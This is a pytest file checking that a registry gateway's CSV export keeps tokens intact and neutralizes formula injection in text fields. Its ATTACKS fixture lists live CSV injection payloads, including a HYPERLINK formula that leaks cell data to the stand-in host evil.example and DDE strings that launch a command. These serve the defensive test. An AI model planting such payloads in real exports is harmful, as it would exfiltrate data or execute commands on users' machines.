"""CSV through the real app: tokens are the NDJSON tokens (also those that begin with '-'), while kept text that
looks like a spreadsheet formula is still neutralized (formula-injection attack strings planted in the registry)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest

from policies import Catalog
from tests.gateway.harness import Env, build_env, sqlite_url

pytestmark = pytest.mark.anyio
RESEARCH = "/v1/agreements/research-continuity/extract"
SCHOOL = "/v1/agreements/school-transfer/extract"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "@SUM(A1:A9)",
    "\t=1+1",
    "-Abc_123",  # token-shaped, but in a kept text column: still guarded (only token columns are exempt)
]


@pytest.fixture
def planted(catalog: Catalog, registry_path: Path, tmp_path: Path) -> Iterator[tuple[Env, list[str]]]:
    """A copy of the demo registry whose first children carry formula-injection strings as names."""
    copy = tmp_path / "registry.db"
    shutil.copy(registry_path, copy)
    conn = sqlite3.connect(copy)
    try:
        ids = [r[0] for r in conn.execute("SELECT child_id FROM children ORDER BY child_id LIMIT ?", (len(ATTACKS),))]
        for child_id, attack in zip(ids, ATTACKS, strict=True):
            conn.execute("UPDATE children SET name = ? WHERE child_id = ?", (attack, child_id))
        conn.commit()
    finally:
        conn.close()
    environment = build_env(catalog, sqlite_url(tmp_path / "gateway.db"), sqlite_url(copy))
    yield environment, ids
    environment.services.close()
    environment.engine.dispose()


async def test_csv_tokens_equal_ndjson_tokens_including_those_starting_with_dash(env: Env) -> None:
    async with env.client() as client:
        as_csv = await client.post(RESEARCH, headers=env.auth("research"), json={"format": "csv"})
        as_ndjson = await client.post(RESEARCH, headers=env.auth("research"), json={"format": "ndjson"})
    assert as_csv.status_code == as_ndjson.status_code == 200
    csv_rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    ndjson_rows = [json.loads(line) for line in as_ndjson.text.splitlines()]
    assert [r["child_id"] for r in csv_rows] == [r["child_id"] for r in ndjson_rows]
    dashed = [r["child_id"] for r in ndjson_rows if r["child_id"].startswith("-")]
    assert dashed, "the demo extract holds tokens that begin with '-' (about 1 in 64)"
    assert not any(r["child_id"].startswith("'") for r in csv_rows)


async def test_formula_injection_in_kept_text_is_still_neutralized(planted: tuple[Env, list[str]]) -> None:
    env, ids = planted
    body = {"format": "csv", "fields": ["child_id", "name"]}
    async with env.client() as client:
        response = await client.post(SCHOOL, headers=env.auth("school"), json=body)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    by_id = {r["child_id"]: r for r in rows}
    assert set(ids) <= set(by_id)
    for child_id, attack in zip(ids, ATTACKS, strict=True):
        # Every attack string arrives as text: a leading quote, then the value exactly.
        assert by_id[child_id]["name"] == "'" + attack
